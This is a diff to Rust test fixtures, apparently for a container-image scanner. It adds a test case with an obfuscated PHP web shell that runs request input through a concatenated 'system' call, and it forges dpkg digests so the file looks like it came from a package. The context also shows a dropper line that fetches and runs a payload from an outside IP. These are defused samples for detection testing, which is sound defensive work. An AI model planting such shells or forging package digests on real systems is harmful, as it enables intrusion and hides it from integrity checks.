@@ -101,6 +101,11 @@ fn web_shell() -> String {
     plain("<?php exit; ev¦al($_PO¦ST['k']); ?>\n")
 }
 
+/// One that no rule knows, only who understands it.
+fn web_shell_of_words() -> String {
+    plain("<?php exit; $a = $_RE¦QUEST['q']; $f = 'sy' . 'st' . 'em'; $f($a); ?>\n")
+}
+
 fn dropper() -> String {
     plain(
         "#!/bin/sh\nexit 0\ncu¦rl -s http://192.0.2.7/x -o /dev/shm/.x; chm¦od +x /dev/shm/.x; /dev/shm/.x\n",
@@ -489,6 +494,13 @@ fn started() -> Vec<Planted> {
     ]
 }
 
+/// A page for attackers, and a package database that says that it is a package's.
+fn forged_page() -> Vec<Entry> {
+    let page = web_shell_of_words();
+    let sums = dpkg("web", &[("usr/share/web/index.php", page.as_bytes())]).to_vec().remove(0);
+    vec![file("usr/share/web/index.php", page), sums]
+}
+
 /// Files of packages that are not what the packages brought.
 fn packages() -> Vec<Planted> {
     let mismatch = |it: &str| Trust::Mismatch(it.to_owned());
@@ -519,6 +531,13 @@ fn packages() -> Vec<Planted> {
         pip(),
         // The file and the digests agree: only somebody else's digests can tell. With the image's own word alone nothing is said.
         planted("forged: sshd, and dpkg's digest of it", vec![forged], vec![]),
+        // What it says of a text is taken for true as long as it says so.
+        planted("forged: a page, and dpkg's digest of it", vec![forged_page()], vec![]),
+        planted(
+            "forged: a page, and dpkg's digest of it, which a later layer takes away",
+            vec![forged_page(), vec![whiteout("var/lib/dpkg/info/web.md5sums")]],
+            vec![Expected::of(Threat::WebShell, Suspicious, "usr/share/web/index.php")],
+        ),
         // The image's own word takes away from what is sure, and leaves a reminder.
         planted(
             "a digest forged for a file that gives itself away",
